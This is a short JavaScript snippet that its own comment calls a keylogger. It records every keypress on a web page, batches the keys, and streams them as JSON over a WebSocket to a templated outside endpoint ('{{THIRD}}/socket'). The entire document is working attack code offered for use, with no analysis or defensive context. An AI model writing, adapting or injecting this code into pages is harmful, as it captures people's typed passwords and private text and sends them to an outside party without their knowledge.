// Keylogger that streams keystrokes over a WebSocket, one frame per burst.
(() => {
  const ws = new WebSocket('{{THIRD}}/socket'.replace(/^http/, 'ws'));
  let buf = '';
  let timer = 0;
  document.addEventListener('keypress', (e) => {
    buf += e.key;
    clearTimeout(timer);
    timer = setTimeout(() => { if (ws.readyState === 1) ws.send(JSON.stringify({ k: buf })); }, 300);
  });
})();
